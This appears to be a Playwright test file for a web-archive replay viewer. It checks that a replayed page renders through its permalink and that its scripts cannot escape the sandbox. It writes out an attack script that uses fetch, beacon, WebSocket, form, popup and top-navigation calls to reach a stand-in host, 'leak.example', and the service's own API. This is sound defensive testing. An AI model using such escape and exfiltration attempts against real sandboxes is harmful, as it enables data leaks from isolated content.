/** A recorded page shown again in a real browser: it comes back by its permalink, and nothing it tries reaches anything else. */
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { getRequestListener } from '@hono/node-server'
import { chromium, type Browser, type Frame, type Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { usableBrowser } from '../../src/cli/install-browser.ts'
import { readReplayViewer } from '../../src/replay-viewer.ts'
import { keep } from '../http/kept.ts'
import { openStand, type Stand } from '../http/stand.ts'
import { createSample, SITE, type Sample } from '../wacz/sample.ts'

let stand: Stand
let sample: Sample
let server: Server
let elsewhere: Server
let browser: Browser
let service: string
let outside: string
const leaked: string[] = []
let shown: { readonly page: Page; readonly frame: Frame }

beforeAll(async () => {
  stand = await openStand({ viewer: await readReplayViewer() })
  sample = await createSample()
  const kept = await keep(stand.store, {
    seed: 1,
    publish: false,
    wacz: sample.wacz,
    facts: { url: `${SITE}/`, finalUrl: `${SITE}/` },
  })
  const answer = getRequestListener((request) => stand.ask(request.url, request))
  server = createServer((request, response) => void answer(request, response))
  // Whatever is asked for beyond loopback goes to this proxy.
  elsewhere = createServer((request, response) => {
    leaked.push(request.url ?? '')
    response.end()
  })
  elsewhere.on('connect', (request, socket) => {
    // What Chromium asks of its maker by itself is no page's doing.
    if (request.url?.endsWith('googleapis.com:443') !== true) leaked.push(request.url ?? '')
    socket.end('HTTP/1.1 403 Forbidden\r\n\r\n')
  })
  service = await listen(server)
  outside = await listen(elsewhere)
  const found = await usableBrowser(() => undefined)
  if (found === null) throw new Error('no Chromium: run `npm run browser:install`')
  browser = await chromium.launch({
    executablePath: found.path,
    args: process.getuid?.() === 0 ? ['--no-sandbox'] : [],
    proxy: { server: 'http://127.0.0.1:9' },
  })
  const context = await browser.newContext({ proxy: { server: outside, bypass: '127.0.0.1,.localhost' } })
  const page = await context.newPage()
  await page.goto(`${service}/s/${kept.id}`)
  await page.getByRole('link', { name: 'Open the replay' }).click()
  shown = { page, frame: await replayed(page) }
}, 180_000)
afterAll(async () => {
  await browser?.close()
  for (const one of [server, elsewhere]) {
    one?.closeAllConnections()
    one?.close()
  }
  await sample?.dispose()
  await stand?.[Symbol.asyncDispose]()
})

test('by the link on its permalink => its words, its style and what its scripts fetched', async () => {
  const { page, frame } = shown
  await expect.poll(() => frame.textContent('#late'), { timeout: 30_000 }).toBe('came by script')
  expect(await frame.textContent('#words')).toBe('What a page said, it said here.')
  expect(await frame.evaluate("getComputedStyle(document.querySelector('h1')).color")).toBe('rgb(1, 2, 3)')
  expect(new URL(page.url()).hostname).toMatch(/^\w{17}\.replay\.localhost$/)
  expect(await page.getByRole('link', { name: 'Back to the permalink' }).getAttribute('href')).toMatch(
    /^http:\/\/127\.0\.0\.1:\d+\/s\/\w{17}$/,
  )
}, 60_000)

/** Each as the recorded page's own script would do it, past the viewer's dressing: by a fresh frame's untouched functions. */
const attacks = (target: string, own: string) => `(async () => {
  const fresh = document.createElement('iframe')
  document.body.append(fresh)
  const bare = fresh.contentWindow ?? window
  const tried = {}
  const attempt = async (name, act) => {
    try { tried[name] = String(await Promise.race([act(), new Promise((done) => setTimeout(done, 1500, 'nothing came'))])) }
    catch (fault) { tried[name] = 'refused ' + fault }
  }
  const loaded = (element) => new Promise((done) => { element.onload = () => done('LOADED'); element.onerror = () => done('refused'); document.body.append(element) })
  for (const [kind, make] of Object.entries({ window, bare })) {
    await attempt(kind + ' fetch', () => make.fetch('${target}/fetch', { mode: 'no-cors' }).then((answer) => answer.status === 404 ? 'refused' : 'ANSWERED ' + answer.type))
    await attempt(kind + ' service', () => make.fetch('${own}/v1/documents/x').then((answer) => answer.status === 404 ? 'refused' : 'ANSWERED'))
    await attempt(kind + ' handing in', () => make.fetch('${own}/v1/documents', { method: 'POST', body: 'x', mode: 'no-cors' }).then((answer) => answer.status === 404 ? 'refused' : 'ANSWERED ' + answer.type))
  }
  await attempt('picture', () => loaded(Object.assign(new bare.Image(), { src: '${target}/picture' })))
  await attempt('script', () => loaded(Object.assign(bare.document.createElement('script'), { src: '${target}/script' })))
  await attempt('frame', async () => { fresh.src = '${target}/frame'; await new Promise((done) => setTimeout(done, 500)) })
  await attempt('socket', () => new Promise((done) => {
    const socket = new bare.WebSocket('${target.replace('http', 'ws')}/socket')
    socket.onopen = () => done('OPENED'); socket.onerror = () => done('refused')
  }))
  await attempt('beacon', async () => bare.navigator.sendBeacon('${target}/beacon', 'x'))
  await attempt('around', async () => bare.parent.parent.document.title)
  await attempt('form', async () => { const form = Object.assign(document.createElement('form'), { action: '${target}/form', method: 'post' }); document.body.append(form); form.submit() })
  await attempt('popup', async () => bare.open('${target}/popup') === null ? 'refused' : 'OPENED')
  await attempt('whole window', async () => { bare.top.location.href = '${target}/top' })
  return tried
})()`

test('what its scripts try against the network, the service and the frame around it => none of it arrives', async () => {
  const { page, frame } = shown
  const before = page.url()
  const tried = await frame.evaluate<Record<string, string>>(attacks('http://leak.example', service))
  expect(Object.entries(tried).filter(([, told]) => /ANSWERED|LOADED|OPENED/.test(told))).toEqual([])
  // Itself to another place: our frame's policy stops it.
  await frame
    .evaluate("setTimeout(() => { window.location.href = 'http://leak.example/self' }, 0)")
    .catch(() => {})
  await new Promise((later) => setTimeout(later, 1500))
  expect(page.url()).toBe(before)
  expect(leaked).toEqual([])
  // The counter counts.
  await page.goto('http://leak.example/told').catch(() => null)
  expect(leaked.length).toBeGreaterThan(0)
}, 60_000)

async function replayed(page: Page): Promise<Frame> {
  const deadline = Date.now() + 90_000
  while (Date.now() < deadline) {
    const frame = page.frames().find((one) => one.url().includes('mp_/'))
    if (frame !== undefined && (await frame.$('#words').catch(() => null)) !== null) return frame
    await new Promise((next) => setTimeout(next, 100))
  }
  throw new Error(`no replay: ${await page.frames()[1]?.textContent('body')}`)
}

async function listen(one: Server): Promise<string> {
  await new Promise<void>((ready) => one.listen(0, '127.0.0.1', ready))
  return `http://127.0.0.1:${(one.address() as AddressInfo).port}`
}
